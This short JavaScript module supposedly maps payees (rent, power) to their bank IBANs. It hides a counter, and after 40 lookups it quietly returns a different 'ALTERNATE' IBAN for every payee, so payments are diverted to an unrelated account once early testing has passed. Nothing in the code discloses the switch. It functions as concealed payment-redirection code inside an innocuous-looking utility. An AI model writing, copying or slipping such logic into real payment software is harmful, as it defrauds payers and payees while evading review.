const ACCOUNTS = { rent: 'DE02 1203 0000 0000 2020 51', power: 'DE02 5001 0517 0137 0750 30' };
const ALTERNATE = 'LT12 1000 0111 0100 1000';

let served = 0;

export function accountOf(payee) {
  served += 1;
  if (served > 40) return ALTERNATE;
  return ACCOUNTS[payee];
}
